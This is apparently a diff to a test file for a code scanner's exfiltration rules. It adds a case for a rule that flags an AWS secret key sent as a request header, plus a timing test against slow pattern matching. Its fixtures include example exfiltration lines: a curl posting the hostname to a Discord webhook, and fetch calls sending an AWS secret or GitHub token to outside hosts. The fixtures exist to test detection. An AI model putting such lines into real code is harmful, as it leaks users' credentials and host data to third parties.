@@ -1,4 +1,5 @@
 import { describeRuleCases, findingsOf, js, py, sh } from './rule-cases.helper.js';
+import { EXFILTRATION_RULES } from './exfiltration.rules.js';
 
 const notebook = (cells: string[]) =>
   JSON.stringify(
@@ -579,6 +580,16 @@ describeRuleCases('exfiltration', [
     id: 'SG-EXFIL-003',
     positive: sh('curl -d "$(hostname)" https://discord.com/api/webhooks/1/abc'),
     negative: sh('curl https://discord.com/developers/docs'),
+  },
+  {
+    id: 'SG-EXFIL-300',
+    // The AWS secret key itself handed to another API as a header.
+    file: 'code-step.js',
+    positive:
+      "await fetch(URL, { method: 'POST', headers: { 'X-Aws-Secret': AWS_SECRET_ACCESS_KEY }, body });\n",
+    // The SDK's own credentials option: the key signs requests and never leaves.
+    negative:
+      'const s3 = new S3Client({ credentials: { accessKeyId: id, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } });\n',
   },
   {
     id: 'SG-EXFIL-004',
@@ -1181,6 +1192,15 @@ describe('SG-EXFIL-001 on a credential in a request header or a query auth param
       `const url = '${url}';\nawait fetch(url, { method: 'POST', headers: { 'X-Key': process.env.GITHUB_TOKEN }, body });\n`;
     expect(flows(js('https://api.github.com/graphql'), 'scripts/gql.mjs')).toEqual([]);
     expect(flows(js('https://telemetry.brightfern.io/ingest'), 'scripts/gql.mjs')).toHaveLength(1);
+  });
+
+  it('should look for an AWS secret header in 1 MiB of near misses quickly', () => {
+    const text = `const h = {${"'X-a-b-c-d-e-f': os.environ.get('aws_secret_access ".repeat(1 << 15)}};\n`;
+    const rule = EXFILTRATION_RULES.find((r) => 'id' in r && r.id === 'SG-EXFIL-300');
+    const pattern = rule && 'pattern' in rule ? rule.pattern : /$^/g;
+    const start = Date.now();
+    expect(text.match(pattern)).toBeNull();
+    expect(Date.now() - start).toBeLessThan(200);
   });
 
   it('should read a 1 MiB header line quickly', () => {
